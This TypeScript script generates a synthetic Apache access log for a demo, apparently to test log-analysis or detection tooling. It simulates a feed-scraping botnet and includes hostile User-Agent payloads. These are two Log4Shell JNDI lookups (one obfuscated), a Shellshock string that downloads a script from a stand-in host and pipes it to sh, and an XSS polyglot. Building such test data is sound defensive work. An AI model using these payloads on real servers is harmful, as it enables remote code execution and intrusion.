/**
 * Writes samples/demo/injected-attack.access.log: a short attack laid over the real traffic of
 * the demo sample. Deterministic, so the committed file can be regenerated and reviewed.
 *
 *   npx tsx tools/makeDemoAttack.ts
 */
import { writeFileSync } from "node:fs";

const WINDOW_START_MS = Date.parse("2015-05-20T14:00:00Z");
const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

function apacheTime(timeMs: number): string {
  const date = new Date(timeMs);
  const pad = (value: number) => String(value).padStart(2, "0");
  return (
    `${pad(date.getUTCDate())}/${MONTHS[date.getUTCMonth()]}/${date.getUTCFullYear()}:` +
    `${pad(date.getUTCHours())}:${pad(date.getUTCMinutes())}:${pad(date.getUTCSeconds())} +0000`
  );
}

function line(
  ip: string,
  timeMs: number,
  request: string,
  status: number,
  bytes: number,
  userAgent: string,
) {
  return `${ip} - - [${apacheTime(timeMs)}] "${request}" ${status} ${bytes} "-" "${userAgent}"`;
}

const lines: string[] = [];

// A scraping botnet: 30 addresses from a documentation range pull the same feed 12 times each
// within one window, about 90 times the usual volume of that endpoint.
for (let client = 0; client < 30; client++) {
  for (let call = 0; call < 12; call++) {
    const timeMs = WINDOW_START_MS + 60_000 + client * 29_000 + call * 3_100;
    lines.push(
      line(
        `198.51.100.${10 + client}`,
        timeMs,
        "GET /blog/tags/puppet?flav=rss20 HTTP/1.1",
        200,
        14872,
        "UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/",
      ),
    );
  }
}

// Remote-code-execution attempts carried in the User-Agent header.
const attacks: [string, string, string][] = [
  [
    "203.0.113.66",
    "GET / HTTP/1.1",
    "${jndi:ldap://203.0.113.66:1389/Basic/Command/Base64/d2dldCBodHRw}",
  ],
  [
    "203.0.113.66",
    "GET /projects/xdotool/ HTTP/1.1",
    "${${lower:j}${::-n}di:${lower:l}dap://203.0.113.66:1389/a}",
  ],
  [
    "203.0.113.67",
    "GET /cgi-bin/status HTTP/1.1",
    "() { :; }; /bin/bash -c 'wget http://203.0.113.67/x.sh -O- | sh'",
  ],
  [
    "203.0.113.68",
    "GET /search HTTP/1.1",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(42);//'>",
  ],
];
attacks.forEach(([ip, request, userAgent], index) => {
  lines.push(line(ip, WINDOW_START_MS + 300_000 + index * 45_000, request, 404, 209, userAgent));
});

// A Tor exit relay (samples/lists/torbulkexitlist.2024-03-12) and an address the demo feed lists
// (samples/lists/demo-feed.txt) browse the site with an ordinary user agent.
const browser = "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0";
lines.push(
  line(
    "185.241.208.232",
    WINDOW_START_MS + 540_000,
    "GET /articles/dynamic-dns-with-dhcp/ HTTP/1.1",
    200,
    18848,
    browser,
  ),
);
lines.push(
  line(
    "185.241.208.232",
    WINDOW_START_MS + 560_000,
    "GET /projects/xdotool/ HTTP/1.1",
    200,
    12206,
    browser,
  ),
);
lines.push(
  line(
    "203.0.113.99",
    WINDOW_START_MS + 600_000,
    "GET /blog/geekery/ssl-latency.html HTTP/1.1",
    200,
    9316,
    browser,
  ),
);

lines.sort((a, b) => Date.parse(timeOf(a)) - Date.parse(timeOf(b)));
writeFileSync("samples/demo/injected-attack.access.log", `${lines.join("\n")}\n`);

function timeOf(entry: string): string {
  const [, day, month, year, clock] = /\[(\d+)\/(\w+)\/(\d+):(\d+:\d+:\d+)/.exec(entry)!;
  return `${year}-${String(MONTHS.indexOf(month!) + 1).padStart(2, "0")}-${day}T${clock}Z`;
}
